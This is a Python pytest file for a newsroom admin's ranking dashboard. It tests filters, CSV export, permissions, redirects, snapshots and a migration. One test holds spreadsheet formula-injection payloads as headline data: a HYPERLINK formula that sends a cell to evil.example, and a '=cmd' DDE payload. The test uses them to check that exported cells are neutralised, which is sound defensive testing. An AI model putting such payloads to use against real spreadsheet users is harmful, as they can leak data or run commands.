"""The staff dashboard, an article's readers panel and past snapshots, in the admin."""

import csv
import datetime
import io
from importlib import import_module

import pytest
from django.apps import apps
from django.contrib.auth.models import Group, Permission
from django.contrib.contenttypes.models import ContentType
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from rankings.buckets import hour_of
from rankings.models import HourlyViews, RankingSnapshot
from tests.factories import ArticleFactory, SectionFactory
from tests.page_forms import form_data

from .helpers import record_views

pytestmark = pytest.mark.django_db

DASHBOARD_URL = reverse("admin:rankings_dashboard")


@pytest.fixture
def history():
    business = SectionFactory(name="Business", slug="business")
    days_ago = timezone.now() - datetime.timedelta(days=3)
    climber = ArticleFactory(headline="Climber", published_at=days_ago)
    faller = ArticleFactory(headline="Faller", published_at=days_ago)
    newcomer = ArticleFactory(headline="Newcomer", section=business, published_at=days_ago)
    # The previous 24 hours: faller ahead of climber.
    record_views(faller, 50, hours_ago=30)
    record_views(climber, 10, hours_ago=30)
    # The last 24 hours: climber 60, faller 30, newcomer 10.
    record_views(climber, 60, hours_ago=2)
    record_views(faller, 30, hours_ago=1)
    record_views(newcomer, 10)
    return climber, faller, newcomer


def test_the_dashboard_is_dressed_like_every_admin_page(analyst_client):
    html = analyst_client.get(DASHBOARD_URL).content.decode()
    # Django's admin styles breadcrumbs only as this list.
    assert '<ol class="breadcrumbs">' in html
    assert '<li aria-current="page">Ranking dashboard</li>' in html
    assert '<link rel="icon" href="/static/favicon' in html


def test_analysts_see_rank_views_share_and_change(analyst_client, history):
    response = analyst_client.get(DASHBOARD_URL, {"window": "24h"})
    assert response.status_code == 200
    rows = response.context["rows"]
    assert [(r.headline, r.views, r.change) for r in rows] == [
        ("Climber", 60, "up 1"),
        ("Faller", 30, "down 1"),
        ("Newcomer", 10, "new"),
    ]
    assert [round(r.share, 2) for r in rows] == [0.6, 0.3, 0.1]
    assert response.context["total_views"] == 100
    html = response.content.decode()
    assert '<svg class="sparkline"' in html
    assert "Download CSV" in html


def test_the_dashboard_filters_by_section_and_date_range(analyst_client, history):
    business = history[2].section
    page = analyst_client.get(DASHBOARD_URL)
    # Sections by slug, as on the public ranking page.
    assert f'<option value="{business.slug}">Business</option>' in page.content.decode()
    response = analyst_client.get(DASHBOARD_URL, form_data(page, section=business.slug))
    assert [r.headline for r in response.context["rows"]] == ["Newcomer"]

    today = timezone.localdate()
    response = analyst_client.get(
        DASHBOARD_URL,
        {"start": (today - datetime.timedelta(days=3)).isoformat(), "end": today.isoformat()},
    )
    assert response.context["total_views"] == 160


def test_the_csv_is_what_is_on_screen(analyst_client, history):
    response = analyst_client.get(DASHBOARD_URL, {"window": "24h", "format": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:5] == ["rank", "headline", "section", "published", "views"]
    assert [(r[0], r[1], r[4], r[5], r[6]) for r in rows[1:]] == [
        ("1", "Climber", "60", "60.00%", "up 1"),
        ("2", "Faller", "30", "30.00%", "down 1"),
        ("3", "Newcomer", "10", "10.00%", "new"),
    ]


@pytest.mark.parametrize(
    "query, message",
    [
        ({"window": "2y"}, "Select a valid choice"),
        ({"start": "2025-13-01", "end": "2025-01-02"}, "Enter a valid date"),
        ({"start": "2025-02-01"}, "Give both dates of the range, or neither."),
        ({"start": "2025-02-01", "end": "2025-01-01"}, "The range must start before it ends."),
    ],
)
def test_a_bad_filter_gets_a_clear_message(analyst_client, query, message):
    response = analyst_client.get(DASHBOARD_URL, query)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert "rows" not in response.context


def test_the_dashboard_runs_a_fixed_number_of_queries(analyst_client, django_assert_num_queries):
    for n_articles in (3, 15):
        HourlyViews.objects.all().delete()
        for n in range(n_articles):
            article = ArticleFactory()
            record_views(article, n + 1, hours_ago=n)
            record_views(article, n + 2, hours_ago=n + 30)
        # session, user, three for second factors, two for permissions; the ranking and
        # its articles; the totals; the previous period's totals and dates; the charts'
        # buckets; the sections; the session renewed for idle expiry (in a savepoint).
        with django_assert_num_queries(17):
            response = analyst_client.get(DASHBOARD_URL)
        assert len(response.context["rows"]) == n_articles


def test_reporters_and_photo_editors_cannot_see_it(client, reporter, photo_editor, editor):
    for user in (reporter, photo_editor):
        client.force_login(user)
        assert client.get(DASHBOARD_URL).status_code == 403
    client.force_login(editor)
    assert client.get(DASHBOARD_URL).status_code == 200


def test_the_desk_lists_the_dashboard_for_those_who_may_read_it(
    client, reporter, photo_editor, editor, analyst_client
):
    link = f'<a href="{DASHBOARD_URL}">Ranking dashboard</a>'
    for page in (reverse("admin:index"), reverse("admin:app_list", args=["rankings"])):
        assert link in analyst_client.get(page).content.decode()
    # The navigation beside the admin's pages lists it too, as the page one is on.
    current = f'<a href="{DASHBOARD_URL}" aria-current="page">Ranking dashboard</a>'
    assert current in analyst_client.get(DASHBOARD_URL).content.decode()
    for user, sees in ((editor, True), (reporter, False), (photo_editor, False)):
        client.force_login(user)
        assert (link in client.get(reverse("admin:index")).content.decode()) is sees, user


def test_the_old_address_leads_to_the_dashboard(analyst_client, history):
    response = analyst_client.get("/admin/rankings/rankingdashboard/?window=24h", follow=True)
    assert response.redirect_chain == [(f"{DASHBOARD_URL}?window=24h", 301)]
    assert [r.headline for r in response.context["rows"]] == ["Climber", "Faller", "Newcomer"]


def test_an_old_link_naming_the_section_by_id_still_opens_that_section(analyst_client, history):
    business = history[2].section
    old = f"/admin/rankings/rankingdashboard/?window=24h&section={business.pk}"
    response = analyst_client.get(old, follow=True)
    assert response.redirect_chain == [(f"{DASHBOARD_URL}?window=24h&section=business", 301)]
    assert [r.headline for r in response.context["rows"]] == ["Newcomer"]

    csv = analyst_client.get(f"{old}&format=csv", follow=True)
    assert csv["Content-Type"].startswith("text/csv")
    assert "Newcomer" in csv.content.decode()


def test_an_articles_admin_page_shows_its_readers(editor_client, history):
    climber = history[0]
    response = editor_client.get(reverse("admin:articles_article_change", args=[climber.pk]))
    html = response.content.decode()
    assert "70 views in the last 48 hours, 70 since publication." in html
    assert "Views per hour, last 48 hours" in html
    assert '<svg class="bar-chart"' in html
    assert "<tr><td>24 hours</td><td>1</td><td>1</td></tr>" in html


def test_snapshots_keep_past_top_tens(analyst_client, history):
    yesterday = timezone.localdate() - datetime.timedelta(days=1)
    HourlyViews.objects.all().delete()
    moment = timezone.make_aware(datetime.datetime.combine(yesterday, datetime.time(12)))
    HourlyViews.objects.create(
        article=history[1], section_id=history[1].section_id, hour=hour_of(moment), views=5
    )
    HourlyViews.objects.create(
        article=history[2], section_id=history[2].section_id, hour=hour_of(moment), views=9
    )

    call_command("snapshot_rankings", stdout=io.StringIO())
    call_command("snapshot_rankings", stdout=io.StringIO())  # a rerun replaces the day

    site = RankingSnapshot.objects.filter(day=yesterday, section=None)
    assert [(s.rank, s.article, s.views) for s in site] == [(1, history[2], 9), (2, history[1], 5)]
    assert RankingSnapshot.objects.filter(day=yesterday).count() == 4  # + 2 sections, 1 each
    response = analyst_client.get(reverse("admin:rankings_rankingsnapshot_changelist"))
    assert response.status_code == 200
    assert "Newcomer" in response.content.decode()


FORMULA_HEADLINES = [
    '=HYPERLINK("https://evil.example/?"&A1,"東京")',
    "+81 東京 reader numbers",
    "-5% for Café owners in Zürich",
    "@SUM(1+1) 📰",
    "\t=1+1 tab first",
    "\r=1+1 carriage return first",
    "＝1+1 full-width, as a Japanese spreadsheet reads it",
]


def test_the_csv_never_carries_a_live_formula(analyst_client):
    section = SectionFactory(name="=cmd|'/C calc'!A0", slug="formula-section")
    for n, headline in enumerate(FORMULA_HEADLINES):
        article = ArticleFactory(headline=headline, section=section)
        record_views(article, 10 + n)
    record_views(article, 5, hours_ago=30)  # first then and now: its change is "="
    record_views(ArticleFactory(headline="Café in Zürich reopens"), 1)

    response = analyst_client.get(DASHBOARD_URL, {"window": "24h", "format": "csv"})

    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    cells = {row[1]: row for row in rows[1:]}
    for headline in FORMULA_HEADLINES:
        assert f"'{headline}" in cells, headline
        assert cells[f"'{headline}"][2] == "'=cmd|'/C calc'!A0"
    assert cells["Café in Zürich reopens"][2] == "Politics"
    assert rows[1][6] == "'="
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "＝"), row


@pytest.mark.parametrize(
    "start, end",
    [
        ("0001-01-01", "0001-01-01"),
        ("0001-01-01", "0001-12-31"),
        ("0002-01-01", "0002-01-05"),
        ("9999-12-31", "9999-12-31"),
        ("9999-01-01", "9999-12-31"),
        ("1969-12-31", "1970-01-02"),
    ],
)
@pytest.mark.parametrize("output", ["", "csv"])
def test_dates_at_the_edges_of_the_calendar_get_a_clear_message(
    analyst_client, history, start, end, output
):
    business = history[2].section
    # What the browser sends from the filter form, with the Download CSV link's format.
    query = {"window": "", "start": start, "end": end, "section": business.slug}
    if output:
        query["format"] = output
    response = analyst_client.get(DASHBOARD_URL, query)
    assert response.status_code == 200
    html = response.content.decode()
    assert "Pick days between January 1, 1970 and December 31, 2999." in html
    assert "rows" not in response.context


def test_the_date_inputs_tell_the_browser_the_limits(analyst_client):
    html = analyst_client.get(DASHBOARD_URL).content.decode()
    assert 'min="1970-01-01"' in html
    assert 'max="2999-12-31"' in html


def test_the_first_and_last_days_allowed_give_a_result(analyst_client, history):
    for start, end in [("1970-01-01", "1970-01-01"), ("2999-12-31", "2999-12-31")]:
        response = analyst_client.get(DASHBOARD_URL, {"start": start, "end": end})
        assert response.status_code == 200
        assert response.context["rows"] == []
        assert response.context["total_views"] == 0


def test_the_proxy_models_leftovers_go_and_every_grant_stays(roles):
    """A site that had the dashboard as a proxy model: its migration to a page."""
    migration = import_module("rankings.migrations.0008_ranking_dashboard_is_an_admin_page")
    proxy = ContentType.objects.create(app_label="rankings", model="rankingdashboard")
    leftover = Permission.objects.create(
        content_type=proxy, codename="view_rankingdashboard", name="Can view ranking dashboard"
    )
    Group.objects.get(name="Analyst").permissions.add(leftover)

    migration.forget_the_proxy(apps, schema_editor=None)

    assert not ContentType.objects.filter(app_label="rankings", model="rankingdashboard").exists()
    assert not Permission.objects.filter(codename="view_rankingdashboard").exists()
    for role in ("Analyst", "Editor"):
        grants = Group.objects.get(name=role).permissions.filter(content_type__app_label="rankings")
        assert list(grants.values_list("codename", flat=True)) == ["view_rankings"], role
